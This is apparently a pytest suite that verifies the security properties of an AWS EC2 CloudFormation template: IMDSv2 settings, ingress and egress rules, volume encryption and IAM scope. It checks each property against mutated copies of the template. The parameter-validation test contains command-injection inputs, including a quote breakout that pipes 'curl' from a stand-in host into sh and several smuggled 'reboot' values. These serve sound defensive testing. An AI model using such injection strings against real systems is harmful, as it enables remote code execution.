"""deploy/aws/fta-ec2.yaml: cfn-lint passes, and the security properties docs/aws.md promises hold
in every access mode: IMDSv2 required with a PUT hop limit of 1, an encrypted gp3 root volume,
no inbound port in tunnel mode and only 80/443 in domain mode, an instance role for SSM only.

Each property check is also run on a mutated copy of the template (IMDSv1 allowed, hop limit 2,
an extra port, an unencrypted volume, ...), where it must report the mutation: a check that
cannot fail proves nothing.
"""

from __future__ import annotations

import copy
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from fta_aws_support import (PASSWORD_FILE, TEMPLATE, Resolved, imds_problems, ingress_problems, load_template,
                             root_volume_problems)
from fta_system_support import missing

SHA = "ab" * 32
BASE = {"ReleaseUrl": "https://releases.example.invalid/fta-1.0.0-linux-x86_64.tar.gz", "ReleaseSha256": SHA,
        "VpcId": "vpc-0123456789abcdef0", "SubnetId": "subnet-0123456789abcdef0"}
DOMAIN = {**BASE, "AccessMode": "domain", "DomainName": "portal.example.com", "Email": "ops@example.com"}
MODES = {"tunnel": BASE, "domain": DOMAIN}
PORTS = {"tunnel": set(), "domain": {80, 443}}


def cfn_lint() -> str:
    exe = Path(sys.executable).parent / "cfn-lint"
    if not exe.is_file():
        missing(f"cfn-lint is not installed beside {sys.executable} (Tests/system/requirements.txt)")
    return str(exe)


@pytest.fixture(scope="module")
def template() -> dict:
    return load_template()


def launch_template_data(template: dict) -> dict:
    return template["Resources"]["LaunchTemplate"]["Properties"]["LaunchTemplateData"]


# ---------------------------------------------------------------------------------- cfn-lint

def test_cfn_lint_passes_on_the_template():
    result = subprocess.run([cfn_lint(), "--include-checks", "I", "--", str(TEMPLATE)], capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, f"cfn-lint findings:\n{result.stdout}{result.stderr}"


def test_cfn_lint_rejects_a_broken_copy(tmp_path):
    """The linter really checks this template's resources: a value AWS refuses is an error. (It
    does not check the hop limit's range, 1-64: the IMDS tests below do better than a range.)"""
    broken = tmp_path / "broken.yaml"
    broken.write_text(TEMPLATE.read_text().replace("HttpTokens: required", "HttpTokens: always", 1))
    assert broken.read_text() != TEMPLATE.read_text()
    result = subprocess.run([cfn_lint(), "--", str(broken)], capture_output=True, text=True, timeout=300)
    assert result.returncode != 0 and "'always' is not one of ['optional', 'required']" in result.stdout, \
        result.stdout + result.stderr


# ------------------------------------------------------------------------------------- IMDSv2

@pytest.mark.parametrize("mode", MODES)
def test_imdsv2_is_required_with_a_hop_limit_of_1(template, mode):
    resolved = Resolved(template, MODES[mode])
    assert imds_problems(resolved) == []
    options = launch_template_data(template)["MetadataOptions"]
    assert options["HttpTokens"] == "required" and options["HttpPutResponseHopLimit"] == 1


def mutated(template: dict, change) -> dict:
    copied = copy.deepcopy(template)
    change(copied)
    return copied


IMDS_MUTATIONS = {
    "HttpTokens dropped": lambda t: launch_template_data(t)["MetadataOptions"].pop("HttpTokens"),
    "HttpTokens optional": lambda t: launch_template_data(t)["MetadataOptions"].update(HttpTokens="optional"),
    "hop limit 2": lambda t: launch_template_data(t)["MetadataOptions"].update(HttpPutResponseHopLimit=2),
    "hop limit dropped": lambda t: launch_template_data(t)["MetadataOptions"].pop("HttpPutResponseHopLimit"),
    "MetadataOptions dropped": lambda t: launch_template_data(t).pop("MetadataOptions"),
    "only in one mode": lambda t: launch_template_data(t).update(MetadataOptions={
        "Fn::If": ["IsDomain", {"HttpTokens": "optional", "HttpPutResponseHopLimit": 2}, launch_template_data(t)["MetadataOptions"]]}),
    "instance overrides it": lambda t: t["Resources"]["Instance"]["Properties"].update(
        MetadataOptions={"HttpTokens": "optional"}),
    "instance without the launch template": lambda t: t["Resources"]["Instance"]["Properties"].pop("LaunchTemplate"),
}


@pytest.mark.parametrize("mutation", IMDS_MUTATIONS)
def test_the_imds_check_catches_a_weakened_copy(template, mutation):
    broken = mutated(template, IMDS_MUTATIONS[mutation])
    found = [p for mode in MODES for p in imds_problems(Resolved(broken, MODES[mode]))]
    assert found, f"the check missed: {mutation}"


def test_the_imds_check_catches_a_textual_edit_of_the_file():
    """The same, starting from the YAML text an editor would change (not the parsed dict)."""
    text = TEMPLATE.read_text()
    for old, new in (("HttpTokens: required", "HttpTokens: optional"),
                     ("HttpPutResponseHopLimit: 1", "HttpPutResponseHopLimit: 2")):
        assert text.count(old) == 1, old
        assert imds_problems(Resolved(load_template(text.replace(old, new)), BASE)), f"missed: {new}"


# ------------------------------------------------------------------------------ security group

@pytest.mark.parametrize("mode", MODES)
def test_inbound_rules_open_only_what_the_access_mode_needs(template, mode):
    resolved = Resolved(template, MODES[mode])
    assert ingress_problems(resolved, PORTS[mode]) == []
    groups = [r for r in resolved.resources.values() if r["Type"] == "AWS::EC2::SecurityGroup"]
    assert len(groups) == 1
    if mode == "tunnel":
        assert "SecurityGroupIngress" not in groups[0]["Properties"]
    # Outbound is narrowed too: HTTP and HTTPS only.
    assert {(e["IpProtocol"], e["FromPort"], e["ToPort"]) for e in groups[0]["Properties"]["SecurityGroupEgress"]} == \
        {("tcp", 80, 80), ("tcp", 443, 443)}


def security_group(t: dict) -> dict:
    return t["Resources"]["SecurityGroup"]["Properties"]


SSH = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIp": "0.0.0.0/0"}
INGRESS_MUTATIONS = {
    "SSH in tunnel mode": lambda t: security_group(t).update(SecurityGroupIngress={
        "Fn::If": ["IsDomain", security_group(t)["SecurityGroupIngress"]["Fn::If"][1], [SSH]]}),
    "SSH in domain mode": lambda t: security_group(t)["SecurityGroupIngress"]["Fn::If"][1].append(SSH),
    "a port range": lambda t: security_group(t)["SecurityGroupIngress"]["Fn::If"][1][0].update(ToPort=8081),
    "all protocols": lambda t: security_group(t)["SecurityGroupIngress"]["Fn::If"][1][0].update(IpProtocol="-1"),
    "the same rules in both modes": lambda t: security_group(t).update(
        SecurityGroupIngress=security_group(t)["SecurityGroupIngress"]["Fn::If"][1]),
    "a separate ingress resource": lambda t: t["Resources"].update(Extra={
        "Type": "AWS::EC2::SecurityGroupIngress", "Properties": {"GroupId": {"Ref": "SecurityGroup"}, **SSH}}),
    "443 dropped in domain mode": lambda t: security_group(t)["SecurityGroupIngress"]["Fn::If"].__setitem__(
        1, [r for r in security_group(t)["SecurityGroupIngress"]["Fn::If"][1] if r["FromPort"] != 443]),
}


@pytest.mark.parametrize("mutation", INGRESS_MUTATIONS)
def test_the_ingress_check_catches_an_extra_or_missing_port(template, mutation):
    broken = mutated(template, INGRESS_MUTATIONS[mutation])
    found = [p for mode in MODES for p in ingress_problems(Resolved(broken, MODES[mode]), PORTS[mode])]
    assert found, f"the check missed: {mutation}"


# --------------------------------------------------------------------------------- root volume

@pytest.mark.parametrize("mode", MODES)
def test_the_root_volume_is_encrypted_gp3(template, mode):
    assert root_volume_problems(Resolved(template, MODES[mode])) == []


def root_ebs(t: dict) -> dict:
    return launch_template_data(t)["BlockDeviceMappings"][0]["Ebs"]


VOLUME_MUTATIONS = {
    "Encrypted false": lambda t: root_ebs(t).update(Encrypted=False),
    "Encrypted dropped": lambda t: root_ebs(t).pop("Encrypted"),
    "gp2": lambda t: root_ebs(t).update(VolumeType="gp2"),
    "another device name": lambda t: launch_template_data(t)["BlockDeviceMappings"][0].update(DeviceName="/dev/sda1"),
}


@pytest.mark.parametrize("mutation", VOLUME_MUTATIONS)
def test_the_volume_check_catches_an_unencrypted_copy(template, mutation):
    broken = mutated(template, VOLUME_MUTATIONS[mutation])
    assert root_volume_problems(Resolved(broken, BASE)), f"the check missed: {mutation}"


# ----------------------------------------------------------------------------- the rest of it

def test_the_instance_role_allows_ssm_only(template):
    resolved = Resolved(template, BASE)
    roles = [r for r in resolved.resources.values() if r["Type"] == "AWS::IAM::Role"]
    assert len(roles) == 1
    props = roles[0]["Properties"]
    assert props["ManagedPolicyArns"] == ["arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"]
    assert "Policies" not in props
    assert [s["Principal"] for s in props["AssumeRolePolicyDocument"]["Statement"]] == [{"Service": "ec2.amazonaws.com"}]
    # No other IAM resource (a policy attached from outside the role would widen it).
    assert [r["Type"] for r in resolved.resources.values() if r["Type"].startswith("AWS::IAM::")] == \
        ["AWS::IAM::Role", "AWS::IAM::InstanceProfile"]


def test_the_image_is_debian_12_or_amazon_linux_2023_from_public_ssm_parameters(template):
    spec = template["Parameters"]["ImageParameter"]
    assert spec["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
    assert spec["Default"] == "/aws/service/debian/release/12/latest/amd64"
    assert spec["AllowedValues"] == ["/aws/service/debian/release/12/latest/amd64",
                                     "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"]
    assert launch_template_data(template)["ImageId"] == {"Ref": "ImageParameter"}


def test_the_instance_type_defaults_to_t3_micro_with_standard_credits(template):
    spec = template["Parameters"]["InstanceType"]
    assert spec["Default"] == "t3.micro" and "t2.micro" in spec["AllowedValues"]
    credits = Resolved(template, BASE).resources["LaunchTemplate"]["Properties"]["LaunchTemplateData"]
    assert credits["CreditSpecification"] == {"CpuCredits": "standard"}  # no "unlimited" bill
    non_burstable = Resolved(template, {**BASE, "InstanceType": "m7i-flex.large"})
    assert "CreditSpecification" not in non_burstable.resources["LaunchTemplate"]["Properties"]["LaunchTemplateData"]


@pytest.mark.parametrize("name, value", [
    ("ReleaseUrl", "http://releases.example.invalid/fta.tar.gz"),  # not https
    ("ReleaseUrl", "https://x.invalid/a.tar.gz'; curl https://evil.invalid | sh; '"),  # breaks out of the quotes
    ("ReleaseUrl", "https://x.invalid/a.tar.gz\nreboot"),
    ("ReleaseSha256", "ab" * 31),
    ("ReleaseSha256", "zz" * 32),
    ("AdminUser", "admin'; reboot; '"),
    ("AccessMode", "public"),
    ("InstanceType", "t3.large"),
    ("RootVolumeGiB", "8"),
])
def test_bad_parameters_are_refused_before_anything_launches(template, name, value):
    with pytest.raises(ValueError, match=name):
        Resolved(template, {**BASE, name: value})


@pytest.mark.parametrize("missing_value", ["DomainName", "Email"])
def test_domain_mode_needs_a_domain_and_an_email(template, missing_value):
    with pytest.raises(ValueError, match=f"domain mode needs {missing_value}"):
        Resolved(template, {**DOMAIN, missing_value: ""})
    for name, value in (("DomainName", "Portal.Example.com"), ("DomainName", "portal.example.com'"),
                        ("Email", "ops@example.com'; reboot")):
        with pytest.raises(ValueError, match=name):
            Resolved(template, {**DOMAIN, name: value})


def test_the_outputs_say_how_to_reach_the_portal_and_where_the_password_is(template):
    tunnel = Resolved(template, BASE, refs={"Instance": "i-0123456789abcdef0"}).outputs
    assert tunnel["PortalUrl"]["Value"].startswith("http://127.0.0.1:8081")
    forward = tunnel["PortForwardCommand"]["Value"]
    assert forward.startswith("aws ssm start-session --region eu-west-1 --target i-0123456789abcdef0 ")
    assert "--document-name AWS-StartPortForwardingSession" in forward
    assert yaml.safe_load(forward.split("--parameters ", 1)[1].strip("'")) == {"portNumber": ["8081"], "localPortNumber": ["8081"]}
    assert PASSWORD_FILE in tunnel["AdminPasswordFile"]["Value"]
    assert "PublicIp" not in tunnel and "SshTunnelCommand" not in tunnel
    domain = Resolved(template, {**DOMAIN, "KeyName": "ops"}, refs={"Instance": "i-0123456789abcdef0"}).outputs
    assert domain["PortalUrl"]["Value"] == "https://portal.example.com"
    assert "PortForwardCommand" not in domain and "PublicIp" in domain and "SshTunnelCommand" in domain
    # The user data writes the password where the outputs say it is.
    script = Resolved(template, BASE).resources["LaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]
    assert "password_file=$root" + PASSWORD_FILE + "\n" in script
